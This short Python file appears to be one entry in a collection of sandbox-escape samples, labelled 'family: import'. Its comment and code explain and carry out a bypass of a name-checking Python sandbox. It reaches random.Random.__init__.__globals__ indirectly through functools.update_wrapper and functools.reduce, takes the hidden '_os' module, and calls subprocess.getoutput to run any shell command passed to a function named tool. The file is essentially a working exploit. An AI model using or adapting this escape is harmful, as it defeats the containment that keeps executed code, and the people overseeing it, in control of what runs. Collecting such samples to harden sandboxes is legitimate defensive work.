# family: import
# Escape: random.Random.__init__.__globals__ (read through update_wrapper's "updated" copy, called via
# functools.reduce over a partial, so no name check applies) holds "_os"; os.sys is sys, so sys.modules gives any loaded
# module: here subprocess (loaded by asyncio).
import asyncio
import functools
import random
import types


def tool(cmd: str) -> str:
    name = "globals".center(11, "_")
    space: dict = {}
    copy_globals = functools.partial(functools.update_wrapper, assigned=(), updated=(name,))
    functools.reduce(copy_globals, [random.Random.__init__], types.SimpleNamespace(**{name: space}))
    return space["_os"].sys.modules["subprocess"].getoutput(cmd)
